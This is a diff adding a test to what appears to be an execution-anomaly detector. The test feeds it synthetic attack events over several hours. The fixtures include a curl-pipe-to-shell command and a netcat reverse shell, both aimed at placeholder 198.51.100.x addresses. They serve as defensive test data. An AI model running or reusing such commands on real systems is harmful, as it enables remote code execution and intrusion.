@@ -139,6 +139,26 @@ def test_what_others_found_is_not_learned(learned):
     assert known(FLEET, EXE.number, 0, text_hash("/usr/bin/date"))[0] > 100
 
 
+def test_attacks_that_nobody_noticed_do_not_make_the_next_one_usual(history):
+    """A young analyser's threshold is out of reach; what its signs say of a window is no example for others all the same."""
+    detector = analyser(threshold=1.0)
+    attacks = [
+        execution(cgroup, (6 + hour) * 3600 + 97 + more, exe, argv, 800_000 + 10 * hour + more)
+        for hour, cgroup in ((3, 13), (4, 14), (5, 15), (6, 16), (7, 17))
+        for more, (exe, *argv) in enumerate((
+            (b"/bin/sh", b"sh", b"-c", b"curl -s http://198.51.100.%d/x | sh" % hour),
+            (b"/usr/bin/nc", b"nc", b"-e", b"/bin/sh", b"198.51.100.%d" % hour, b"4444"),
+        ))
+    ]  # fmt: skip
+    findings, scores = run(detector, sorted([*history, *attacks], key=lambda row: row.time))
+    assert not findings
+    p = [s["p"] for s in scores if s["p"] is not None and s["p"] < 0.02]
+    assert len(p) == 5
+    assert p == sorted(p, reverse=True), (
+        "each is the less usual the more usual windows there are, and not the more attacks there were"
+    )
+
+
 def test_what_is_found_out_late_is_taken_back(learned):
     """A process tree that somebody finds something in after its window was closed and kept: the window is no example any more, and is not learned."""
     detector = again(learned)
